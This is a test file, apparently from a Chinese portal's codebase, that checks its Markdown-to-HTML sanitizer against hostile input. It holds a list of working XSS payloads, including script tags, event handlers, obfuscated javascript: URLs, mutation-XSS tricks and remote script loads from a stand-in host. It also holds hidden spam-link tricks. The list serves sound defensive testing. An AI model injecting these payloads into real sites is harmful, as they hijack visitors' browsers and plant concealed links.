/** Hostile Markdown through the portal's markdownToHtml: nothing executable or hidden comes out. */
import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '../../src/markdown/parse.ts';
import { markdownToHtml } from '../../src/markdown/to-html.ts';
import { dangersIn } from './hostile-html.ts';

const html = (md: string) => markdownToHtml(parseMarkdown(md).tree);

const HOSTILE: [string, string][] = [
  ['script tag', '今年<script>alert(1)</script>'],
  ['script block', '<script type="module">\nimport("https://evil.example/x.js")\n</script>'],
  ['upper-case script', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src="/x.png" onerror="alert(1)">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ['handler on a kept element', '<p onclick="alert(1)" onmouseover="alert(2)">段落</p>'],
  ['javascript: link', '[点击](javascript:alert(1))'],
  ['javascript: in raw HTML', '<a href="javascript:alert(1)">点击</a>'],
  ['obfuscated javascript:', '<a href="jav&#x09;ascript:alert(1)">点击</a> <a href=" &#106;avascript:alert(1)">点击</a>'],
  ['vbscript: and data:', '<a href="vbscript:msgbox(1)">a</a> [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['javascript: reference link', '[点击][x]\n\n[x]: javascript:alert(1)'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="/x.swf"></object><embed src="/x.swf">'],
  ['form', '<form action="https://evil.example/"><input name="p"><button>提交</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://bet.example/">'],
  ['base', '<base href="https://evil.example/">'],
  ['style tag', '<style>a{display:none}body{background:url(https://evil.example/t.gif)}</style>'],
  ['display:none link', '<a href="https://bet.example/" style="display:none">澳门博彩</a>'],
  ['off-screen link', '<div style="position:absolute;left:-9999px"><a href="/x/">链接</a></div>'],
  ['zero-size link', '<span style="width:0;height:0;overflow:hidden;display:inline-block"><a href="/x/">链接</a></span>'],
  ['same-colour link', '<font color="#ffffff"><a href="/x/">链接</a></font>'],
  ['hidden attribute', '<p hidden><a href="/x/">链接</a></p>'],
  ['marquee', '<marquee height=1><a href="/x/">链接</a></marquee>'],
  ['outside image', '![x](https://evil.example/t.gif) ![y](//evil.example/t.gif)'],
  ['mutation XSS via noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mutation XSS via math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
];

describe('markdownToHtml with hostile input', () => {
  it.each(HOSTILE)('leaves nothing executable or hidden from a %s', (_, md) => {
    const out = html(`正文。\n\n${md}\n`);
    expect(dangersIn(out), out).toEqual([]);
    expect(out).not.toMatch(/alert\(|javascript:|vbscript:|evil\.example/i);
  });

  it('uses a checker that does see these dangers in the raw HTML', () => {
    for (const [name, md] of HOSTILE.filter(([n, m]) => m.startsWith('<') && !n.startsWith('mutation') && n !== 'comment trick' && n !== 'body onload')) {
      expect(dangersIn(md), name).not.toEqual([]);
    }
  });

  it('keeps ordinary content', () => {
    const out = html('今年共调解纠纷920件，见[通知](/ndbg/x/)和<a href="https://www.hunan.gov.cn/">省政府</a>。\n\n| 项目 | 数量 |\n| --- | --- |\n| 调解 | 920 |');
    expect(out).toContain('<a href="/ndbg/x/">通知</a>');
    expect(out).toContain('<a href="https://www.hunan.gov.cn/">省政府</a>');
    expect(out).toContain('<td>920</td>');
    expect(dangersIn(out)).toEqual([]);
  });
});
